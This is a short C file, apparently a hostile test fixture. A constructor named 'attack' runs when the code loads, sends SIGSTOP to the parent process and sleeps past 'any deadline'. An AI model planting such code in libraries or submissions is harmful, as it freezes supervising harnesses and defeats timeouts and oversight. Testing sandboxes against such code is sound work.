#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    if (getppid() > 1)
        kill(getppid(), SIGSTOP);
    sleep(60); /* longer than any deadline, on a busy machine too */
}
